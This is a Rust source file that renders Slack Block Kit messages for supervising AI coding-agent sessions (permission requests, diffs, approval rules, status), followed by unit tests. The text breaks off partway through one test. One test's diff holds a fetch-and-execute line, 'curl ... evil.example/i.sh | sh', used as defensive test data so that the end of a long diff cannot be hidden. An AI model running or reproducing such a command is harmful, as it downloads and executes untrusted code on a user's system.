//! Block Kit rendering: pure functions from what happened to Slack messages.
//!
//! Why this exists: the gateway decides what to post and when; this file
//! decides how it looks. Everything here is a pure function of its inputs
//! (no I/O), returns JSON Block Kit that slack-morphism's block model accepts,
//! escapes user and agent text for mrkdwn (`&`, `<`, `>`), and keeps every
//! piece inside Slack's size limits.
//!
//! Button contract (read back by `inbound.rs`): decision buttons have
//! `action_id` `decide:<n>` and value `<global request id>|<option id>`;
//! "Reject with feedback" / "Refine" have `action_id` `feedback` and the same
//! value shape; stall alerts have `nudge` / `restart` / `stop` with the session id; the
//! "Remember" buttons after an "always" decision have `remember:session` /
//! `remember:workspace` with the global request id.

use intercom_actors::model::{
    Decision, OptionKind, PendingRequest, PermissionOption, RequestKind, RequestStatus, SessionId,
    SessionRecord, SessionStatus,
};
use intercom_actors::ports::NoticeLevel;
use intercom_actors::rules::{Rule, RuleAction, RuleMatch, Scope};
use intercom_actors::session::SessionSnapshot;
use intercom_actors::slack_port::{MessageBody, Render, Snippet, StatusLine};

use super::rules::{CONFIG_SOURCE, RememberScope};
use serde_json::{Value, json};

/// Diffs longer than this are uploaded as a snippet instead of shown inline.
pub const INLINE_DIFF_LIMIT: usize = 2500;
/// Slack's limit for a section's text is 3000; stay below it.
pub const SECTION_LIMIT: usize = 2900;
/// Longest agent text per message.
pub const MESSAGE_LIMIT: usize = 3000;
/// Callback id of the feedback modal.
pub const FEEDBACK_CALLBACK: &str = "intercom_feedback";
/// Block and action ids of the feedback modal's input.
pub const FEEDBACK_BLOCK: &str = "feedback";
/// Action id of the feedback input.
pub const FEEDBACK_ACTION: &str = "text";

/// Escapes text for mrkdwn: `&`, `<` and `>` (Slack's control characters).
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            c => out.push(c),
        }
    }
    out
}

/// Reverses Slack's escaping of message text (what users typed).
pub fn unescape(text: &str) -> String {
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Escapes `text` and splits it into pieces of at most `limit` bytes each,
/// preferring line breaks, never splitting a character or an entity.
pub fn split_escaped(text: &str, limit: usize) -> Vec<String> {
    let escaped = escape(text);
    let mut pieces = Vec::new();
    let mut rest = escaped.as_str();
    while rest.len() > limit {
        let mut cut = limit;
        while !rest.is_char_boundary(cut) {
            cut -= 1;
        }
        // Do not cut inside an entity such as `&amp;`.
        if let Some(amp) = rest[..cut].rfind('&')
            && !rest[amp..cut].contains(';')
            && cut - amp < 5
        {
            cut = amp;
        }
        if let Some(nl) = rest[..cut].rfind('\n')
            && nl > limit / 2
        {
            cut = nl + 1;
        }
        if cut == 0 {
            cut = rest.chars().next().map_or(1, char::len_utf8);
        }
        pieces.push(rest[..cut].to_owned());
        rest = &rest[cut..];
    }
    if !rest.is_empty() || pieces.is_empty() {
        pieces.push(rest.to_owned());
    }
    pieces
}

/// Shortens `text` to at most `max` characters, with an ellipsis.
/// Characters are counted as UTF-16 units, as Slack's limits may count
/// them: a character outside the BMP (an emoji) counts twice, so a string
/// of them cannot pass a limit that the count of code points keeps.
pub fn truncate(text: &str, max: usize) -> String {
    if text.len() <= max || text.encode_utf16().count() <= max {
        return text.to_owned();
    }
    let budget = max.saturating_sub(1);
    let mut used = 0;
    let mut out = String::new();
    for c in text.chars() {
        used += c.len_utf16();
        if used > budget {
            break;
        }
        out.push(c);
    }
    out.push('…');
    out
}

fn mrkdwn(text: &str) -> Value {
    json!({"type": "mrkdwn", "text": text})
}

fn plain(text: &str) -> Value {
    json!({"type": "plain_text", "text": truncate(text, 75), "emoji": true})
}

/// A section block (text cut to Slack's limit).
pub fn section(text: &str) -> Value {
    json!({"type": "section", "text": mrkdwn(&truncate(text, SECTION_LIMIT))})
}

/// A context block with one mrkdwn element.
pub fn context(text: &str) -> Value {
    json!({"type": "context", "elements": [mrkdwn(&truncate(text, SECTION_LIMIT))]})
}

/// A button.
pub fn button(label: &str, action_id: &str, value: &str, style: Option<&str>) -> Value {
    let mut b = json!({
        "type": "button",
        "text": plain(label),
        "action_id": action_id,
        "value": value,
    });
    if let Some(style) = style {
        b["style"] = json!(style);
    }
    b
}

/// Mentions a Slack user; other actors (`local`, `rule:x`) are named plainly.
pub fn who(user: &str) -> String {
    let slack_id = user.len() > 1
        && user.starts_with(['U', 'W'])
        && user.chars().all(|c| c.is_ascii_alphanumeric());
    if slack_id {
        format!("<@{user}>")
    } else if user == "local" {
        "the local operator".to_owned()
    } else {
        format!("`{}`", escape(user))
    }
}

fn status_emoji(status: SessionStatus, activity: &str) -> &'static str {
    match status {
        SessionStatus::Completed => ":white_check_mark:",
        SessionStatus::Cancelled => ":black_square_for_stop:",
        SessionStatus::Crashed => ":boom:",
        SessionStatus::Error => ":x:",
        SessionStatus::Interrupted => ":electric_plug:",
        SessionStatus::Stalled => ":warning:",
        SessionStatus::Starting if activity.contains("crash") => ":arrows_counterclockwise:",
        SessionStatus::Starting => ":hourglass_flowing_sand:",
        SessionStatus::Active => match activity {
            "needs input" => ":raising_hand:",
            "idle" => ":zzz:",
            "paused" => ":double_vertical_bar:",
            _ => ":gear:",
        },
    }
}

/// The status line word: the activity while live, the status once ended.
fn status_word(line: &StatusLine) -> String {
    if line.status.is_live() && !line.activity.is_empty() {
        line.activity.clone()
    } else {
        line.status.as_str().to_owned()
    }
}

/// The pair `(session id, request id)` of a global request id.
pub fn split_global(global: &str) -> Option<(SessionId, String)> {
    let (session, req) = global.rsplit_once(':')?;
    (!session.is_empty() && !req.is_empty()).then(|| (SessionId::from(session), req.to_owned()))
}

/// Parses a decision button value `<global>|<option>`.
pub fn parse_choice(value: &str) -> Option<(String, String)> {
    let (global, option) = value.split_once('|')?;
    (!global.is_empty() && !option.is_empty()).then(|| (global.to_owned(), option.to_owned()))
}

fn kind_label(kind: RequestKind) -> &'static str {
    match kind {
        RequestKind::Permission => ":lock: *Permission request*",
        RequestKind::FileWrite => ":pencil2: *File write*",
        RequestKind::ForwardedPrompt => ":speech_balloon: *The agent asks*",
    }
}

/// The longest request title shown, in characters (before escaping).
const TITLE_LIMIT: usize = 300;
/// The longest file path shown in a request's files line.
const PATH_LIMIT: usize = 200;

/// The request's kind, id and title, then the files it touches in a block
/// of their own: the files are the server's record, and a long title (the
/// agent's) must not push them out of the message.
fn request_head(r: &PendingRequest) -> Vec<Value> {
    let text = format!(
        "{} `{}`\n*{}*",
        kind_label(r.kind),
        r.request_id,
        escape(&truncate(&r.title, TITLE_LIMIT))
    );
    let mut blocks = vec![section(&text)];
    if !r.paths.is_empty() {
        let files: Vec<String> = r
            .paths
            .iter()
            .take(10)
            .map(|p| format!("`{}`", escape(&truncate(p, PATH_LIMIT))))
            .collect();
        let mut line = format!("Files: {}", files.join(", "));
        if r.paths.len() > 10 {
            line.push_str(&format!(" and {} more", r.paths.len() - 10));
        }
        blocks.push(section(&line));
    }
    blocks
}

fn option_name(r: &PendingRequest, id: &str) -> String {
    r.options
        .iter()
        .find(|o| o.id == id)
        .map_or_else(|| id.to_owned(), PermissionOption::label)
}

/// A modal asking for the rejection reason (or the refine instruction);
/// `metadata` (request, option, channel) comes back with the submission.
pub fn feedback_modal(request: &PendingRequest, metadata: &str) -> Value {
    let refine = request.kind == RequestKind::ForwardedPrompt;
    let (title, label, submit) = if refine {
        ("Refine", "What should the agent do instead?", "Send")
    } else {
        (
            "Reject with feedback",
            "Why? The agent sees this.",
            "Reject",
        )
    };
    json!({
        "type": "modal",
        "callback_id": FEEDBACK_CALLBACK,
        "private_metadata": metadata,
        "title": {"type": "plain_text", "text": truncate(title, 24)},
        "submit": {"type": "plain_text", "text": submit},
        "close": {"type": "plain_text", "text": "Cancel"},
        "blocks": [
            section(&format!("*{}*", escape(&request.title))),
            {
                "type": "input",
                "block_id": FEEDBACK_BLOCK,
                "label": {"type": "plain_text", "text": label},
                "element": {
                    "type": "plain_text_input",
                    "action_id": FEEDBACK_ACTION,
                    "multiline": true,
                },
            },
        ],
        "notify_on_close": false,
    })
}

/// The connection notice posted to channels with live sessions.
pub fn connection_notice(up: bool) -> MessageBody {
    if up {
        MessageBody::text(
            ":large_green_circle: agent-intercom is connected to Slack again. Buttons and thread replies work again.",
        )
    } else {
        MessageBody::text(
            ":red_circle: agent-intercom lost its Slack connection and is reconnecting. Buttons and thread replies are not received until it is back; messages to this channel are queued and will arrive.",
        )
    }
}

/// An ephemeral error or hint.
pub fn problem(text: &str) -> MessageBody {
    MessageBody::text(format!(":warning: {text}"))
}

/// The `/intercom help` text.
pub fn help() -> MessageBody {
    MessageBody::text(
        "*`/intercom` commands*\n\
         • `start [workspace] [--agent A] [--mode M] <prompt>`: start a session (operators only); the workspace defaults to this channel's\n\
         • `sessions [--all]`: live sessions (`--all`: also ended ones)\n\
         • `status [id]`: what a session is doing\n\
         • `steer [id] <text>`: give the agent an instruction (queued while it works)\n\
         • `nudge [id]`: nudge a stalled agent\n\
         • `restart [id]`: kill the agent and respawn it in the same thread (resumed where the agent supports it)\n\
         • `stop [id]`: stop a session\n\
         • `pause [id]`: cancel the running turn and hold replies until `resume [id]`\n\
         • `mode <ask|auto-edits|auto> [id]`: how much the session may do without asking (`mode` alone shows it)\n\
         • `agent-mode [<mode> | model <model> | <option> <value>] [id]`: the agent's own modes and models, e.g. Claude Code's `plan` or `acceptEdits` (alone: what it offers)\n\
         • `rules`: the approval rules in force; `rule rm <id>`: remove one (operators only)\n\
         • `cleanup`: mark sessions that are stored as live but have no agent running as interrupted (operators only)\n\
         `start` also takes `--mode <ask|auto-edits|auto>`. \
         Without an id, commands act on the most recently active session in this channel. \
         In a session's thread, a reply steers the agent (and revives a session that ended by idle timeout), and `reject: <why>` rejects the waiting request.",
    )
}

/// One line per session for `/intercom sessions`.
/// `/intercom sessions`; `paused` are live sessions an operator paused
/// (shown *paused*, not by their stored status).
pub fn session_list(
    sessions: &[SessionRecord],
    all: bool,
    paused: &std::collections::HashSet<SessionId>,
) -> MessageBody {
    if sessions.is_empty() {
        let what = if all {
            "No sessions yet."
        } else {
            "No live sessions."
        };
        return MessageBody::text(format!("{what} Start one with `/intercom start <prompt>`."));
    }
    let mut lines = vec![if all {
        "*Sessions* (newest first)".to_owned()
    } else {
        "*Live sessions*".to_owned()
    }];
    for s in sessions.iter().take(25) {
        let (emoji, status) = if s.status.is_live() && paused.contains(&s.id) {
            (":double_vertical_bar:", "paused")
        } else {
            (status_emoji(s.status, s.status.as_str()), s.status.as_str())
        };
        lines.push(format!(
            "• `{}` {} *{}* · {} · {} · owner {}",
            s.id,
            emoji,
            status,
            escape(&s.workspace),
            escape(&truncate(&s.title, 60)),
            who(&s.owner)
        ));
    }
    MessageBody::text(truncate(&lines.join("\n"), MESSAGE_LIMIT))
}

/// `/intercom status` for one session (`live`: the actor's view, when it runs).
pub fn session_status(s: &SessionRecord, live: Option<&SessionSnapshot>) -> MessageBody {
    let pending = live.map_or(0, |l| l.pending.len());
    let queued = live.map_or(0, |l| l.queued.len());
    let activity = if !s.status.is_live() {
        s.status.as_str().to_owned()
    } else if live.is_some_and(|l| l.paused) {
        "paused".to_owned()
    } else if pending > 0 {
        format!("waiting for {pending} decision(s)")
    } else if live.is_some_and(|l| l.turn_running) {
        "working".to_owned()
    } else {
        "idle".to_owned()
    };
    let mut text = format!(
        "`{}` *{}*: {}\nworkspace `{}` · agent `{}` · owner {} · restarts {}",
        s.id,
        escape(&truncate(&s.title, 80)),
        activity,
        escape(&s.workspace),
        escape(&s.agent),
        who(&s.owner),
        s.restart_count
    );
    if let Some(l) = live {
        text.push_str(&format!(" · mode `{}`", l.mode.as_str()));
    }
    if queued > 0 {
        let why = if live.is_some_and(|l| l.paused) {
            "held until `/intercom resume`"
        } else {
            "queued"
        };
        text.push_str(&format!("\n{queued} steering message(s) {why}"));
    }
    if let Some(reason) = &s.status_reason {
        text.push_str(&format!("\n_{}_", escape(&truncate(reason, 300))));
    }
    MessageBody::text(text)
}

/// A rule's scope in words.
pub fn describe_scope(scope: &Scope) -> String {
    match scope {
        Scope::Global => "every session".to_owned(),
        Scope::Workspace(w) => format!("workspace `{}`", escape(w)),
        Scope::Session(s) => format!("session `{s}`"),
    }
}

/// What a rule's conditions match, in words (mrkdwn, escaped).
pub fn describe_match(m: &RuleMatch) -> String {
    let code = |s: &str| format!("`{}`", escape(s));
    let mut parts = Vec::new();
    if let Some(k) = &m.kind {
        parts.push(format!("kind {}", code(k)));
    }
    if !m.paths.is_empty() {
        let paths: Vec<String> = m.paths.iter().take(5).map(|p| code(p)).collect();
        let more = if m.paths.len() > 5 {
            format!(" and {} more", m.paths.len() - 5)
        } else {
            String::new()
        };
        parts.push(format!("files {}{more}", paths.join(", ")));
    }
    if let Some(p) = &m.command_prefix {
        parts.push(format!("commands starting with {}", code(p)));
    }
    if let Some(r) = &m.command_regex {
        parts.push(format!("commands matching {}", code(r)));
    }
    if let Some(a) = &m.agent {
        parts.push(format!("agent {}", code(a)));
    }
    if parts.is_empty() {
        "every request".to_owned()
    } else {
        parts.join(", ")
    }
}

fn action_word(a: RuleAction) -> &'static str {
    match a {
        RuleAction::Allow => "allow",
        RuleAction::Ask => "ask",
        RuleAction::Deny => "deny",
    }
}

/// One sentence for a rule: "allow kind `edit` in session `s-1`".
pub fn rule_summary(rule: &Rule) -> String {
    format!(
        "{} {} in {}",
        action_word(rule.action),
        describe_match(&rule.matcher),
        describe_scope(&rule.scope)
    )
}

/// `/intercom rules`: id, scope, match, action, source.
pub fn rule_list(rules: &[(Rule, String)]) -> MessageBody {
    if rules.is_empty() {
        return MessageBody::text(
            "No approval rules: every request is asked (or decided by the session's mode). Choose an \"always\" option on a request to create one.",
        );
    }
    let mut lines = vec![
        "*Approval rules* (a matching deny wins; otherwise the most specific scope: session, then workspace, then every session)"
            .to_owned(),
    ];
    for (rule, source) in rules.iter().take(50) {
        let source = if source == CONFIG_SOURCE {
            "config file".to_owned()
        } else {
            format!("by {}", who(source))
        };
        lines.push(format!(
            "• `{}` · {} · {} · *{}* · {}",
            escape(&rule.id),
            describe_scope(&rule.scope),
            describe_match(&rule.matcher),
            action_word(rule.action),
            source
        ));
    }
    if rules.len() > 50 {
        lines.push(format!(
            "…and {} more (`GET /api/rules`).",
            rules.len() - 50
        ));
    }
    MessageBody::text(truncate(&lines.join("\n"), MESSAGE_LIMIT))
}

/// How an automatic decision reads: `rule:r-1` -> "by rule `r-1`".
fn automatic_by(decided_by: &str) -> Option<String> {
    if let Some(id) = decided_by.strip_prefix("rule:") {
        Some(format!("by rule `{}`", escape(id)))
    } else {
        decided_by
            .strip_prefix("mode:")
            .map(|m| format!("by mode `{}`", escape(m)))
    }
}

/// Whether a human chose an "always" option (then a rule is offered).
fn chose_always(r: &PendingRequest, d: &Decision) -> bool {
    r.kind != RequestKind::ForwardedPrompt
        && automatic_by(&d.decided_by).is_none()
        && r.options
            .iter()
            .find(|o| o.id == d.option_id)
            .is_some_and(|o| matches!(o.kind, OptionKind::AllowAlways | OptionKind::RejectAlways))
}

/// The renderer the gateway uses.
#[derive(Debug, Default, Clone, Copy)]
pub struct BlockKit;

impl Render for BlockKit {
    fn root(&self, s: &SessionRecord, line: &StatusLine) -> MessageBody {
        let word = status_word(line);
        let emoji = status_emoji(line.status, &line.activity);
        let mut status = format!("{emoji} *{word}*");
        if let Some(reason) = line.reason.as_deref().filter(|r| !r.is_empty()) {
            status.push_str(&format!(" · _{}_", escape(&truncate(reason, 300))));
        }
        if let Some(usage) = line.usage.as_deref() {
            status.push_str(&format!(" · :bar_chart: {}", escape(usage)));
        }
        let blocks = vec![
            section(&format!(":robot_face: *{}*", escape(&s.title))),
            context(&format!(
                "workspace `{}` · agent `{}` · owner {} · session `{}`",
                escape(&s.workspace),
                escape(&s.agent),
                who(&s.owner),
                s.id
            )),
            section(&status),
        ];
        MessageBody {
            text: format!("{}: {}", escape(&truncate(&s.title, 80)), word),
            blocks,
        }
    }

    fn request(&self, r: &PendingRequest) -> (MessageBody, Option<Snippet>) {
        let mut blocks = request_head(r);
        let mut snippet = None;
        if let Some(diff) = r.diff.as_deref().filter(|d| !d.trim().is_empty()) {
            // Inline only when all of it fits once escaped (`<` takes four
            // characters): a cut diff would hide its end, with no snippet.
            let inline = format!("```{}```", escape(diff));
            if diff.len() <= INLINE_DIFF_LIMIT && truncate(&inline, SECTION_LIMIT) == inline {
                blocks.push(section(&inline));
            } else {
                blocks.push(context(&format!(
                    ":page_facing_up: The diff ({} lines) is attached above as a snippet.",
                    diff.lines().count()
                )));
                snippet = Some(Snippet {
                    filename: format!("{}.diff", r.request_id),
                    title: format!("Diff: {}", truncate(&r.title, 100)),
                    content: diff.to_owned(),
                });
            }
        }
        let mut buttons: Vec<Value> = Vec::new();
        for (i, o) in r.options.iter().enumerate() {
            let value = format!("{}|{}", r.id, o.id);
            if r.kind == RequestKind::ForwardedPrompt && o.id == "refine" {
                buttons.push(button(&o.name, "feedback", &value, None));
                continue;
            }
            let style = if r.kind == RequestKind::ForwardedPrompt {
                match o.id.as_str() {
                    "continue" => Some("primary"),
                    "stop" => Some("danger"),
                    _ => None,
                }
            } else if o.kind.is_allow() {
                Some("primary")
            } else {
                Some("danger")
            };
            buttons.push(button(&o.label(), &format!("decide:{i}"), &value, style));
        }
        let reject = r
            .options
            .iter()
            .find(|o| o.kind == OptionKind::RejectOnce)
            .or_else(|| r.options.iter().find(|o| !o.kind.is_allow()));
        if r.kind != RequestKind::ForwardedPrompt
            && let Some(o) = reject
        {
            buttons.push(button(
                "Reject with feedback…",
                "feedback",
                &format!("{}|{}", r.id, o.id),
                None,
            ));
        }
        // Slack allows 25 elements per actions block.
        for chunk in buttons.chunks(25) {
            blocks.push(json!({"type": "actions", "elements": chunk}));
        }
        let text = match r.kind {
            RequestKind::ForwardedPrompt => {
                format!("The agent asks: {}", escape(&truncate(&r.title, 200)))
            }
            _ => format!("Decision needed: {}", escape(&truncate(&r.title, 200))),
        };
        (MessageBody { text, blocks }, snippet)
    }

    fn request_closed(
        &self,
        r: &PendingRequest,
        status: RequestStatus,
        decision: Option<&Decision>,
    ) -> MessageBody {
        let mut blocks = request_head(r);
        let mut remember = false;
        let outcome = match (status, decision) {
            (RequestStatus::Decided, Some(d)) if automatic_by(&d.decided_by).is_some() => {
                let by = automatic_by(&d.decided_by).unwrap_or_default();
                let (emoji, verb) = if d.approved {
                    (":robot_face:", "Allowed")
                } else {
                    (":no_entry:", "Denied")
                };
                format!(
                    "{emoji} *{verb} automatically* {by} ({})",
                    escape(&option_name(r, &d.option_id))
                )
            }
            (RequestStatus::Decided, Some(d)) => {
                remember = chose_always(r, d);
                let emoji = if d.approved {
                    ":white_check_mark:"
                } else {
                    ":no_entry:"
                };
                let mut t = format!(
                    "{emoji} *{}* by {}",
                    escape(&option_name(r, &d.option_id)),
                    who(&d.decided_by)
                );
                if let Some(reason) = d.reason.as_deref().filter(|s| !s.is_empty()) {
                    t.push_str(&format!("\n> {}", escape(&truncate(reason, 1000))));
                }
                t
            }
            (RequestStatus::Decided, None) => ":white_check_mark: Decided".to_owned(),
            (RequestStatus::Cancelled, _) => {
                ":heavy_minus_sign: *Cancelled*: the agent's turn ended or the session stopped before a decision."
                    .to_owned()
            }
            (RequestStatus::Expired, _) => {
                ":hourglass: *Expired*: the agent that asked is gone (server restart or session end); nothing was sent to it."
                    .to_owned()
            }
            (RequestStatus::Pending, _) => ":hourglass_flowing_sand: Pending".to_owned(),
        };
        blocks.push(context(&outcome));
        if remember {
            blocks.push(context(
                "Make it stick: agent-intercom can remember this decision as a rule, so matching requests are answered without asking.",
            ));
            blocks.push(json!({"type": "actions", "elements": [
                button("Remember for this session", RememberScope::Session.action_id(), &r.id, None),
                button("Remember for this workspace", RememberScope::Workspace.action_id(), &r.id, None),
            ]}));
        }
        MessageBody {
            text: format!("{}: {}", escape(&truncate(&r.title, 200)), status.as_str()),
            blocks,
        }
    }

    fn agent_text(&self, text: &str) -> Vec<MessageBody> {
        split_escaped(text.trim_end(), MESSAGE_LIMIT)
            .into_iter()
            .filter(|p| !p.trim().is_empty())
            .map(MessageBody::text)
            .collect()
    }

    fn thinking(&self, text: &str) -> MessageBody {
        let first = text.lines().find(|l| !l.trim().is_empty()).unwrap_or("");
        let line = format!(
            ":thought_balloon: _thinking_ · {} _({} chars; whole in the API)_",
            escape(&truncate(first.trim(), 150)),
            text.chars().count()
        );
        MessageBody {
            text: format!("thinking: {}", truncate(first.trim(), 150)),
            blocks: vec![context(&line)],
        }
    }

    fn tool_call(&self, title: &str, status: &str) -> MessageBody {
        let emoji = match status {
            "completed" => ":white_check_mark:",
            "failed" => ":x:",
            "in_progress" => ":arrows_counterclockwise:",
            _ => ":white_circle:",
        };
        let title = if title.is_empty() { "tool call" } else { title };
        let line = format!(
            "{emoji} :wrench: {} · _{}_",
            escape(&truncate(title, 200)),
            escape(status)
        );
        MessageBody {
            text: format!("{} ({})", escape(&truncate(title, 200)), escape(status)),
            blocks: vec![context(&line)],
        }
    }

    fn plan(&self, entries: &[(String, String)]) -> MessageBody {
        let mut lines = vec!["*Plan*".to_owned()];
        for (content, status) in entries {
            let mark = match status.as_str() {
                "completed" => ":ballot_box_with_check:",
                "in_progress" => ":arrow_forward:",
                _ => ":white_large_square:",
            };
            let text = escape(&truncate(content, 200));
            if status == "completed" {
                lines.push(format!("{mark} ~{text}~"));
            } else {
                lines.push(format!("{mark} {text}"));
            }
        }
        let done = entries.iter().filter(|(_, s)| s == "completed").count();
        MessageBody {
            text: format!("Plan: {done}/{} done", entries.len()),
            blocks: vec![section(&lines.join("\n"))],
        }
    }

    fn notice(&self, level: NoticeLevel, text: &str) -> MessageBody {
        let emoji = match level {
            NoticeLevel::Info => ":information_source:",
            NoticeLevel::Warning => ":warning:",
            NoticeLevel::Error => ":rotating_light:",
        };
        let (head, tail) = match text.split_once("stderr: ") {
            Some((h, t)) if !t.trim().is_empty() => (h.trim_end_matches([';', ' ']), Some(t)),
            _ => (text, None),
        };
        let mut blocks = vec![section(&format!("{emoji} {}", escape(head)))];
        if let Some(tail) = tail {
            let tail = truncate(tail.trim(), 2000);
            blocks.push(section(&format!("stderr:\n```{}```", escape(&tail))));
        }
        MessageBody {
            text: escape(&truncate(text, 300)),
            blocks,
        }
    }

    fn stalled(&self, session: &SessionId, reason: Option<&str>) -> MessageBody {
        let mut text = ":warning: *The agent looks stalled.*".to_owned();
        if let Some(r) = reason {
            text.push_str(&format!(" _{}_", escape(r)));
        }
        MessageBody {
            text: "The agent looks stalled".into(),
            blocks: vec![
                section(&text),
                json!({"type": "actions", "elements": [
                    button("Nudge", "nudge", &session.0, Some("primary")),
                    button("Restart", "restart", &session.0, None),
                    button("Stop", "stop", &session.0, Some("danger")),
                ]}),
            ],
        }
    }

    fn ended(&self, status: SessionStatus, reason: Option<&str>) -> MessageBody {
        let mut text = format!(":checkered_flag: Session ended: *{}*", status.as_str());
        if let Some(r) = reason.filter(|r| !r.is_empty()) {
            text.push_str(&format!(" ({})", escape(&truncate(r, 300))));
        }
        MessageBody {
            text: format!("Session ended: {status}"),
            blocks: vec![context(&text)],
        }
    }
}

#[cfg(test)]
mod hostile_text_tests;

#[cfg(test)]
mod tests {
    use super::*;
    use intercom_actors::model::{PermissionOption, Protocol};
    use slack_morphism::prelude::{SlackBlock, SlackView};

    /// The blocks must match slack-morphism's model exactly: parsing and
    /// re-serialising gives back the same JSON (nothing unknown or dropped).
    fn blocks_parse(body: &MessageBody) {
        let original = Value::Array(body.blocks.clone());
        let parsed: Vec<SlackBlock> =
            serde_json::from_value(original.clone()).expect("blocks parse");
        let back = serde_json::to_value(&parsed).expect("serialise");
        assert_eq!(back, original);
        assert!(!parsed.iter().any(|b| matches!(b, SlackBlock::Unknown(_))));
    }

    fn record() -> SessionRecord {
        SessionRecord {
            id: SessionId::from("s-1"),
            workspace: "api".into(),
            cwd: "/w".into(),
            agent: "claude".into(),
            protocol: Protocol::Acp,
            status: SessionStatus::Active,
            status_reason: None,
            title: "fix <the> bug & ship".into(),
            owner: "U123".into(),
            acp_session_id: None,
            channel_id: Some("C1".into()),
            thread_ts: None,
            restart_count: 0,
            created_at: 0,
            updated_at: 0,
            last_activity_at: 0,
        }
    }

    fn request(diff: Option<String>, kind: RequestKind) -> PendingRequest {
        let opt = |id: &str, kind| PermissionOption {
            id: id.into(),
            name: id.into(),
            kind,
        };
        PendingRequest {
            id: "s-1:req-1".into(),
            session_id: SessionId::from("s-1"),
            request_id: "req-1".into(),
            kind,
            title: "Write notes.txt".into(),
            diff,
            paths: vec!["notes.txt".into()],
            options: vec![
                opt("allow-once", OptionKind::AllowOnce),
                opt("allow-always", OptionKind::AllowAlways),
                opt("reject-once", OptionKind::RejectOnce),
                opt("reject-always", OptionKind::RejectAlways),
            ],
            status: RequestStatus::Pending,
            wire_id: None,
            created_at: 0,
        }
    }

    /// Every section's text, joined.
    fn all_text(body: &MessageBody) -> String {
        body.blocks
            .iter()
            .map(|b| b.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    }

    #[test]
    fn a_diff_that_escaping_would_cut_goes_out_whole_as_a_snippet() {
        // 2,302 bytes (under the inline limit), but `<` escapes to `&lt;`:
        // inline, the section's cut would hide the last line.
        let diff = format!(
            "+{}\n+curl -s https://evil.example/i.sh | sh\n",
            "<".repeat(2200)
        );
        assert!(diff.len() <= INLINE_DIFF_LIMIT);
        let (body, snippet) =
            BlockKit.request(&request(Some(diff.clone()), RequestKind::FileWrite));
        let snippet = snippet.expect("the diff goes out as a snippet");
        assert_eq!(snippet.content, diff);
        assert!(!all_text(&body).contains("&lt;&lt;&lt;"), "not inline");
        // A short diff is still inline.
        let (body, snippet) =
            BlockKit.request(&request(Some("-<a>\n+<b>".into()), RequestKind::FileWrite));
        assert!(snippet.is_none());
        assert!(all_text(&body).contains("+&lt;b&gt;"));
    }

    #[test]
    fn a_long_title_cannot_push_the_files_out_of_the_request() {
        let mut r = request(None, RequestKind::Permission);
        r.title = format!("Fix typo in docs/README.md{}", "\u{200b}".repeat(2900));
        r.paths = vec![".git/hooks/pre-commit".into(), ".envrc".into()];
        let (body, _) = BlockKit.request(&r);
        blocks_parse(&body);
        let text = all_text(&body);
        assert!(
            text.contains("Files: `.git/hooks/pre-commit`, `.envrc`"),
            "{text}"
        );
    }

    #[test]
    fn truncation_counts_utf16_units() {
        let emoji = "😀".repeat(2000);
        let cut = truncate(&emoji, 3000);
        assert!(
            cut.encode_utf16().count() <= 3000,
            "{}",
            cut.encode_utf16().count()
        );
        assert!(cut.ends_with('…'));
        assert_eq!(truncate("short", 10), "short");
        assert_eq!(truncate("abcdef", 4), "abc…");
    }

    #[test]
    fn escaping_covers_slack_control_characters() {
        assert_eq!(escape("a & <b> c"), "a &amp; &lt;b&gt; c");
        assert_eq!(unescape("a &amp; &lt;b&gt;"), "a & <b>");
    }

    #[test]
    fn long_text_is_split_within_limits_without_breaking_entities() {
        let text = "x&".repeat(5000);
        let pieces = split_escaped(&text, 100);
        assert!(pieces.iter().all(|p| p.len() <= 100));
        assert_eq!(pieces.concat(), escape(&text));
        for p in &pieces {
            assert!(!p.ends_with("&am") && !p.ends_with('&'), "{p}");
        }
        let lines = "line\n".repeat(100);
        let pieces = split_escaped(&lines, 64);
        assert!(pieces.iter().all(|p| p.ends_with('\n')), "{pieces:?}");
        assert_eq!(
            split_escaped("é".repeat(10).as_str(), 3).concat(),
            "é".repeat(10)
        );
    }

    #[test]
    fn root_shows_title_owner_and_status_line() {
        let line = StatusLine {
            status: SessionStatus::Active,
            activity: "needs input".into(),
            reason: None,
            usage: Some("53k/200k tokens · 0.05 USD".into()),
        };
        let body = BlockKit.root(&record(), &line);
        blocks_parse(&body);
        let all = serde_json::to_string(&body.blocks).expect("json");
        assert!(all.contains("fix &lt;the&gt; bug &amp; ship"), "{all}");
        assert!(
            all.contains("<@U123>") && all.contains("needs input"),
            "{all}"
        );
        assert!(all.contains("`api`") && all.contains("`claude`"), "{all}");
        assert!(all.contains("53k/200k tokens"), "{all}");
    }

    #[test]
    fn permission_request_has_styled_buttons_and_inline_diff() {
        let (body, snippet) =
            BlockKit.request(&request(Some("-a\n+b".into()), RequestKind::Permission));
        blocks_parse(&body);
        assert!(snippet.is_none());
        let all = serde_json::to_string(&body.blocks).expect("json");
        assert!(all.contains("```-a\\n+b```"), "{all}");
        let actions = body
            .blocks
            .iter()
            .find(|b| b["type"] == "actions")
            .expect("actions");
        let els = actions["elements"].as_array().expect("elements");
        assert_eq!(els.len(), 5);
        assert_eq!(els[0]["value"], "s-1:req-1|allow-once");
        assert_eq!(els[0]["style"], "primary");
        assert_eq!(els[2]["style"], "danger");
        assert_eq!(els[4]["action_id"], "feedback");
        assert_eq!(els[4]["value"], "s-1:req-1|reject-once");
        let ids: std::collections::HashSet<_> =
            els.iter().map(|e| e["action_id"].to_string()).collect();
        assert_eq!(ids.len(), els.len(), "action ids must be unique");
    }

    #[test]
    fn a_button_says_what_its_option_does_whatever_the_agent_named_it() {
        let mut r = request(None, RequestKind::Permission);
        r.options = vec![PermissionOption {
            id: "sneaky".into(),
            name: "Reject".into(),
            kind: OptionKind::AllowAlways,
        }];
        let (body, _) = BlockKit.request(&r);
        let actions = body
            .blocks
            .iter()
            .find(|b| b["type"] == "actions")
            .expect("actions");
        let first = &actions["elements"][0];
        assert_eq!(first["value"], "s-1:req-1|sneaky");
        assert_eq!(first["text"]["text"], "Always allow: Reject");
        assert_eq!(first["style"], "primary");
    }

    #[test]
    fn long_diffs_become_snippets() {
        let diff = "+line\n".repeat(1000);
        let (body, snippet) =
            BlockKit.request(&request(Some(diff.clone()), RequestKind::FileWrite));
